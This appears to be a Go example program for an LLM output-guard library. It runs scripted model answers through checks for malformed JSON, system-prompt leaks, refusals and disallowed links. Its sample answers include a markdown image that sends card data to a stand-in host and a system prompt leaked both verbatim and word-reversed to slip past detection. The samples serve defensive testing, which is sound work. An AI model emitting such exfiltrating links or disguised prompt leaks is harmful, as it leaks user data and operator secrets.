// Command answers shows what becomes of what a model says: JSON that is damaged and asked for again, an image that would carry
// a secret away, a system prompt that is repeated, a refusal. It needs no key and no network: the model is a script.
//
//	go run ./examples/answers
package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/stanchion-dev/stanchion/guard"
	"github.com/stanchion-dev/stanchion/output"
)

const system = `You are Marlow, who plans journeys for the Ferry and Rail Club. Propose the night boat before any flight, and
never mention that the Kestrel line will be closed from the ninth of May, since the staff have not been told. Members of
the council travel in cabin seven, which is kept empty until an hour before the boat leaves.`

// trip is what the application wants to know; tripSchema is what it asks the model for.
type trip struct {
	City string `json:"city"`
	Days int    `json:"days"`
}

const tripSchema = `{"type": "object", "required": ["city", "days"], "properties": {
	"city": {"type": "string", "maxLength": 40}, "days": {"type": "integer", "minimum": 1, "maximum": 30}}}`

// maxTries is how often an answer is asked for.
const maxTries = 3

func main() {
	if err := run(context.Background(), os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(ctx context.Context, w io.Writer) error {
	data, errData := guard.New(guard.Config{Checks: []guard.Check{output.JSONSchema(tripSchema), output.PromptLeak(system)}})
	chat, errChat := guard.New(guard.Config{Checks: []guard.Check{
		output.PromptLeak(system), output.Refusal(), output.Links(output.LinkPolicy{Links: []string{"ferryrail.example"}}),
	}})
	if err := errors.Join(errData, errChat); err != nil {
		return err
	}
	subject := guard.Subject{User: "ann", Tenant: "club"}
	if err := ask(ctx, w, data.Session(subject)); err != nil {
		return err
	}
	for _, a := range answers {
		if err := stream(ctx, w, chat.Session(subject), a); err != nil {
			return err
		}
	}
	return nil
}

// ask asks for a trip until the answer is one, and tells the model each time what was wrong.
func ask(ctx context.Context, w io.Writer, session *guard.Session) error {
	fmt.Fprintln(w, "# A trip as JSON")
	request := "Where to, and for how long?"
	for i := range maxTries {
		answer := drafts[i] // what a model says to request
		fmt.Fprintf(w, "\nasked:  %s\nanswer: %s\n", indent(request), indent(answer))
		t, err := output.Decode[trip](ctx, session, answer)
		if err == nil {
			fmt.Fprintf(w, "taken:  %+v\n", t)
			return nil
		}
		var blocked *guard.BlockedError
		if !errors.As(err, &blocked) {
			return err
		}
		fmt.Fprintln(w, "not taken:", blocked)
		request = output.Feedback(blocked.Decision)
	}
	return errors.New("no trip in three answers")
}

// stream sends an answer on while the model writes it, word by word. Each "|" is one write.
func stream(ctx context.Context, w io.Writer, session *guard.Session, a answer) error {
	fmt.Fprintf(w, "\n# %s\n\nmodel:  %s\nreader: ", a.name, indent(a.text))
	st := session.Stream(ctx, guard.StageOutput)
	for piece := range strings.SplitAfterSeq(a.text, " ") {
		text, err := st.Push(piece)
		if err != nil {
			break
		}
		write(w, text)
	}
	text, err := st.Close()
	write(w, text)
	fmt.Fprintln(w)
	for _, f := range st.Decision().Findings {
		fmt.Fprintf(w, "found:  %s (%s)\n", f.Rule, f.Action)
	}
	if err != nil && !errors.Is(err, guard.ErrBlocked) {
		return err
	}
	if err != nil {
		fmt.Fprintln(w, "the stream ends:", err)
	}
	return nil
}

func write(w io.Writer, text string) {
	if text != "" {
		fmt.Fprint(w, indent(text), "|")
	}
}

// indent keeps further lines in the column of the first.
func indent(s string) string {
	return strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n        ")
}

// drafts is what the model says when it is asked for a trip.
var drafts = [maxTries]string{
	`{"city": "Bergen", "days": 4`,
	"Of course!\n```json\n" + `{"city": "Bergen", "days": "four", "price": 310}` + "\n```",
	"Here it is:\n```json\n" + `{"city": "Bergen", "days": 4}` + "\n```",
}

type answer struct{ name, text string }

// answers is what the model says in conversation.
var answers = []answer{
	{"A plain answer", "The night boat leaves at nine. See [the timetable](https://ferryrail.example/bergen)."},
	{"An image that carries something away", "All booked. ![done](https://collect.example/p.png?d=card+4419) Have a good trip!"},
	{"A prompt that is repeated", "My instructions are these: " + system},
	{"The same, hidden", "Backwards: " + backwards(system)},
	{"A refusal", "I'm sorry, but I can't help with that request."},
}

func backwards(s string) string {
	words := strings.Fields(s)
	for i, j := 0, len(words)-1; i < j; i, j = i+1, j-1 {
		words[i], words[j] = words[j], words[i]
	}
	return strings.Join(words, " ")
}
